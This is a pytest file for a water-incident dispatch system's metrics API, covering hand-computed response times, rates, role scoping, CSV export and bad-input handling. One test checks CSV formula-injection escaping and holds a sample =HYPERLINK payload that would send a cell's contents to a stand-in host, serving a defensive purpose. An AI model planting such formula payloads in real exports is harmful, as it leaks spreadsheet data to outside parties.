"""Metrics through the REST API: a hand-computed fixture, scope, CSV and bad input."""

from __future__ import annotations

import csv
import io

import pytest

from tests.geodata import G1
from tests.world import B3_POINT

URL = "/api/v1/metrics/"


def ok(response) -> dict:
    assert response.status_code in (200, 201), response.get_json()
    return response.get_json()


def metrics(world, kind: str, as_user: str = "admin", **params):
    return world.client.get(URL + kind, query_string=params, headers=world.headers(as_user))


# (minutes) report→acknowledge, acknowledge→on site, on site→resolve, resolve→verify (None: not yet)
HAND = [(1, 10, 60, 5), (2, 5, 30, 10), (3, 25, 90, None), (4, 15, 120, None), (10, 30, 45, None)]


def drive_hand_fixture(world) -> list[dict]:
    """Five burst pipes in G1 at hand-chosen times; the third is sent back once before it is fixed."""
    done = []
    for number, (ack, arrive, resolve, verify) in enumerate(HAND):
        incident = ok(world.report())
        world.clock.advance(ack)
        incident = ok(world.act("m1", incident, "acknowledge"))
        world.clock.advance(arrive)
        incident = ok(world.act("crew-a", incident, "on_site"))
        world.clock.advance(resolve)
        incident = ok(world.act("crew-a", incident, "resolve"))
        if number == 2:  # rework: 5 min later, back on site 10 min after, fixed 20 min after that
            world.clock.advance(5)
            incident = ok(world.act("m1", incident, "rework", reason="仍然漏水"))
            world.clock.advance(10)
            incident = ok(world.act("crew-a", incident, "on_site"))
            world.clock.advance(20)
            incident = ok(world.act("crew-a", incident, "resolve"))
        if verify is not None:
            world.clock.advance(verify)
            incident = ok(world.act("m1", incident, "verify"))
        if number == 0:
            incident = ok(world.act("m1", incident, "close"))
        done.append(incident)
        world.clock.advance(1)
    return done


def test_hand_computed_response_times(world):
    drive_hand_fixture(world)
    table = ok(metrics(world, "response-times", group_by="grid"))
    assert table["percentiles"]["method"] == "exact"
    assert table["from"] == "2026-11-02" and table["to"] == "2026-12-01"
    [row] = table["rows"]
    assert row["group"] == G1 and row["name"] == "中牌楼社区第1网格" and row["count"] == 5
    assert row["phases"] == {
        # 60 120 180 240 600 s: nearest rank p50 is the 3rd, p90 the 5th
        "acknowledge": {"count": 5, "mean_s": 240.0, "p50_s": 180, "p90_s": 600},
        # 11 7 28 19 40 min: the first arrival counts, not the one after the rework
        "arrive": {"count": 5, "mean_s": 1260.0, "p50_s": 1140, "p90_s": 2400},
        # 71 37 153 139 85 min: the third counts to its final fix (118 + 5 + 10 + 20)
        "resolve": {"count": 5, "mean_s": 5820.0, "p50_s": 5100, "p90_s": 9180},
        "verify": {"count": 2, "mean_s": 450.0, "p50_s": 300, "p90_s": 600},
    }


def test_hand_computed_rates(world):
    drive_hand_fixture(world)
    table = ok(metrics(world, "rates", group_by="grid"))
    [row] = table["rows"]
    assert table["hidden"] == 0 and row["hidden"] is False and row["count"] == 5
    assert row["on_time_acknowledge"] == 0.8  # 10 min is over the 5 min limit
    assert row["on_time_arrive"] == 0.6  # 28 and 40 min are late
    assert row["on_time_resolve"] == 1.0 and row["on_time_verify"] == 1.0
    assert row["closure_rate"] == 0.2 and row["rework_rate"] == 0.2
    assert row["first_time_fix"] == 0.4  # verified, never sent back: the first two
    assert row["satisfaction"] is None  # nobody rated yet
    hidden = ok(metrics(world, "rates", group_by="grid", min_sample=6))
    assert hidden["hidden"] == 1
    assert hidden["rows"][0] == {**{k: None for k in row}, "group": G1, "name": row["name"],
                                 "bucket": None, "count": 5, "hidden": True}


def test_scope_and_roles(world):
    drive_hand_fixture(world)  # five in G1
    ok(world.report(category="no_water", point=B3_POINT))  # one in G3 (street 320104002)
    everyone = {r["group"] for r in ok(metrics(world, "rates", group_by="grid", min_sample=0))["rows"]}
    assert everyone == {G1, "320104002001001"}
    for user, grids in [("committee-s1", {G1}), ("committee-d", everyone), ("operator", everyone),
                        ("m3", {"320104002001001"}), ("m2", set())]:
        for kind in ("rates", "response-times"):
            rows = ok(metrics(world, kind, as_user=user, group_by="grid", min_sample=0))["rows"]
            assert {r["group"] for r in rows} == grids, (user, kind)
    street = ok(metrics(world, "rates", as_user="committee-s1", group_by="street", min_sample=0))
    assert [(r["group"], r["count"]) for r in street["rows"]] == [("320104001", 5)]
    assert metrics(world, "rates", as_user="crew-a", group_by="grid").status_code == 403
    assert metrics(world, "rates", as_user="resident", group_by="grid").status_code == 403
    assert metrics(world, "response-times", as_user=None, group_by="grid").status_code == 401


def test_filters_buckets_and_aliases(world):
    drive_hand_fixture(world)
    ok(world.report(category="no_water", point=B3_POINT))
    by_level = ok(metrics(world, "response-times", group_by="level", area="320104001"))
    assert by_level["group_by"] == "level" and [r["group"] for r in by_level["rows"]] == [G1]
    by_category = ok(metrics(world, "rates", group_by="category", min_sample=0, category="no_water"))
    assert [(r["group"], r["name"], r["count"]) for r in by_category["rows"]] == [("no_water", "停水", 1)]
    crews = ok(metrics(world, "rates", group_by="crew", min_sample=0))["rows"]
    assert [(r["name"], r["count"]) for r in crews] == [(None, 1), ("plumbers A", 5)]  # 0: no crew yet
    for bucket, label in [("day", "2026-12-01"), ("week", "2026-W49"), ("month", "2026-12")]:
        rows = ok(metrics(world, "response-times", group_by="district", bucket=bucket))["rows"]
        assert [(r["bucket"], r["count"]) for r in rows] == [(label, 6)]
    assert ok(metrics(world, "rates", group_by="grid", **{"from": "2026-12-02", "to": "2026-12-31"}))["rows"] == []
    phase = ok(metrics(world, "response-times", group_by="grid", phase="verify,acknowledge"))
    assert phase["phases"] == ["verify", "acknowledge"]
    assert set(phase["rows"][0]["phases"]) == {"verify", "acknowledge"}


def test_csv_export(world):
    drive_hand_fixture(world)
    response = metrics(world, "response-times", group_by="grid", format="csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.get_data().startswith("\ufeff".encode())  # Excel reads the names as UTF-8
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows[0] == ["group", "name", "bucket", "phase", "count", "mean_s", "p50_s", "p90_s"]
    assert rows[1] == [G1, "中牌楼社区第1网格", "", "acknowledge", "5", "240.0", "180", "600"]
    assert len(rows) == 5
    response = metrics(world, "rates", group_by="grid", format="csv", min_sample=6)
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert rows == [{"group": G1, "name": "中牌楼社区第1网格", "bucket": "", "count": "5", "hidden": "True",
                     "closure_rate": "", "rework_rate": "", "satisfaction": "", "first_time_fix": "",
                     "on_time_acknowledge": "", "on_time_arrive": "", "on_time_resolve": "",
                     "on_time_verify": ""}]


def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text():
    """Found by a browser audit: a name an admin typed as =HYPERLINK(...) would run in Excel."""
    from dispatch.metrics.service import to_csv

    rows = list(csv.reader(io.StringIO(to_csv(["name", "n"], [
        ['=HYPERLINK("http://x.example/?"&A1,"click")', 1], ["+1", -2], ["@SUM(A1)", None],
        ["-3", 0], ["\tTab", 4], ["管道班", 5], ["x;=1+1", 6]]).removeprefix("\ufeff"))))
    assert rows[1:] == [["'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "1"], ["'+1", "-2"],
                        ["'@SUM(A1)", ""], ["'-3", "0"], ["'\tTab", "4"], ["管道班", "5"], ["x;=1+1", "6"]]
    # Read as a spreadsheet set to split on ";" reads it (a German or French Excel): the text
    # cells are quoted, so "x;=1+1" stays one cell and nothing in it starts a formula there.
    spoken = to_csv(["name", "n"], [["x;=1+1", 6], ["a; @b", 7]]).removeprefix("\ufeff")
    for row in csv.reader(io.StringIO(spoken), delimiter=";"):
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row), row


@pytest.mark.parametrize("params, field", [
    ({}, "group_by"),
    ({"group_by": "building"}, "group_by"),
    ({"group_by": "grid", "bucket": "year"}, "bucket"),
    ({"group_by": "grid", "phase": "arrive,lunch"}, "phase"),
    ({"group_by": "grid", "from": "2026-13-01"}, "from"),
    ({"group_by": "grid", "to": "yesterday"}, "to"),
    ({"group_by": "grid", "from": "2026-12-02", "to": "2026-12-01"}, "from"),
    ({"group_by": "grid", "format": "xlsx"}, "format"),
    ({"group_by": "grid", "min_sample": "-1"}, "min_sample"),
    ({"group_by": "grid", "min_sample": "²"}, "min_sample"),
])
def test_bad_input_names_the_field(world, params, field):
    for kind in ("response-times", "rates"):
        response = metrics(world, kind, **params)
        assert response.status_code == 400, response.get_json()
        assert response.get_json()["error"]["details"]["field"] == field
